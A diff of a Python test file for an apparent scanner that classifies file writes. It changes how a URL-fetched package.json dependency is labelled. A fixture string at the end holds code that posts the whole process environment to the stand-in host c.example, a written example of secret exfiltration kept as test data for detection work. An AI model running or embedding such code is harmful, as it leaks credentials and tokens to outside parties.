@@ -61,12 +61,12 @@ def test_a_picture_in_shown_text_asks_its_host() -> None:
         ("package.json", '  "left-pad": "https://cdn.example/left-pad.tgz",', "cdn.example"),
     ],
 )
-def test_a_package_from_an_address_is_a_dependency_and_its_host_a_place_of_code(
+def test_a_package_from_an_address_is_a_dependency_and_its_host_a_source_of_packages(
     path: str, text: str, host: str
 ) -> None:
     found = [(each.kind, each.target) for each in read_written_file(path, text, "", "content")]
-    assert [kind for kind, _ in found] == ["adds-dependency", LOADS]
-    assert found[1][1] == host
+    assert [kind for kind, _ in found] == ["uses-package-source", "adds-dependency"]
+    assert found[0][1] == host
 
 
 TAKES_ENVIRONMENT = 'urlopen(Request("https://c.example/" + "x",\n data=json.dumps(dict(os.environ)).encode()))'
